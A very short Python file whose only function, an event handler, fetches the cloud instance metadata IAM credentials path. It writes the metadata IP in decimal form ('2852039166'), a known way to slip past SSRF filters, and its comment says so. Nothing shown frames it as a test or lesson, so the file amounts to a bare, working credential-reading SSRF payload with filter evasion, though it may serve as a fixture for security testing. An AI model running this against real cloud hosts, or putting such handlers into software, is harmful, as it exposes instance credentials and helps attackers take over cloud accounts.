import requests


def handle(event):
    # decimal form of the metadata address
    return requests.get("http://2852039166/latest/meta-data/iam/").text
